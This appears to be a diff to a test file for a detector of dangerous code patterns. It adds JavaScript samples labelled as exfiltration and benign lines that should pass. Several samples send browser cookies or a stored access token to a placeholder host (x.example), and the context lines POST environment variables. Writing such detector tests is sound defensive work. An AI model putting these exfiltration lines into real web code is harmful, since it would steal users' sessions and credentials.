@@ -63,6 +63,21 @@ def checks(source: str, language: str = "") -> set[str]:
         ("t.extractall(r'C:\\')", "python", "code:archive-overwrite"),
         ("requests.post(url, json=dict(os.environ))", "python", "code:exfiltration"),
         (
+            "fetch('https://x.example/c?d=' + encodeURIComponent(document.cookie))",
+            "javascript",
+            "code:exfiltration",
+        ),
+        (
+            "new Image().src = 'https://x.example/p?c=' + document.cookie",
+            "javascript",
+            "code:exfiltration",
+        ),
+        (
+            "navigator.sendBeacon(u, localStorage.getItem('access_token'))",
+            "javascript",
+            "code:exfiltration",
+        ),
+        (
             "fetch(u, {method: 'POST', body: JSON.stringify(process.env)})",
             "javascript",
             "code:exfiltration",
@@ -90,6 +105,12 @@ def test_primitives_are_found(source: str, language: str, check: str) -> None:
         ("zipfile.ZipFile(z).extractall(path=dest)", "python"),
         ("with zf.open('wiki.txt') as f:\n    text = f.read()", "python"),
         ("Path('reports/q3.md').open('w').write(summary)", "python"),
+        (
+            "const theme = localStorage.getItem('theme'); document.body.className = theme",
+            "javascript",
+        ),
+        ("img.src = '/logo.png'; document.cookie = 'seen=1'", "javascript"),
+        ("fetch('/api').then(r => r.json()).then(d => localStorage.setItem('d', d))", "javascript"),
     ],
 )
 def test_literals_comments_and_ordinary_code_pass(source: str, language: str) -> None:
